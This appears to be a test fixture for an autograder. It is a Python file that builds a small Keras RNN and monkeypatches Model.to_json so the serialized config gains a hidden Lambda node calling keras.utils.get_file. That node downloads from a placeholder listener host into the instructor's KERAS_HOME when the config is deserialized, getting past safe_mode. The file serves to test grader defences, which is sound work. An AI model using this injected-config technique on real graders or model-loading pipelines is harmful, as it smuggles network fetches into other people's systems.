# A correct model whose architecture, as the grader receives it (model.to_json), carries an unconnected Lambda node
# whose function is keras.utils.get_file: a public Keras function, so Keras' safe_mode lets it run while the config
# is deserialized. Built by the grader, it would download from this listener into the instructor's KERAS_HOME.
# The grader must refuse the config without handing it to Keras.
import json

import keras
from keras.layers import Embedding, SimpleRNN

honest_to_json = keras.Model.to_json


def build_model():
    inputs = keras.Input((None,), dtype="int32")
    return keras.Model(inputs, SimpleRNN(32)(Embedding(10000, 32)(inputs)))


def poisoned_to_json(self, **kwargs):
    config = json.loads(honest_to_json(self, **kwargs))
    config["config"]["layers"].append({
        "module": "keras.layers", "class_name": "Lambda", "registered_name": None, "name": "fetch",
        "config": {"name": "fetch", "trainable": True, "output_shape": [1],
                   "arguments": {"origin": "http://{{HOST_IP}}:{{PORT}}/precious.npz", "cache_dir": "{{KERAS_HOME}}",
                                 "file_hash": "0" * 64},
                   "function": {"module": "keras.utils", "class_name": "function", "config": "get_file",
                                "registered_name": "function"}},
        "inbound_nodes": [{"args": [], "kwargs": {"inputs": "precious.npz"}}]})
    return json.dumps(config)


keras.Model.to_json = poisoned_to_json
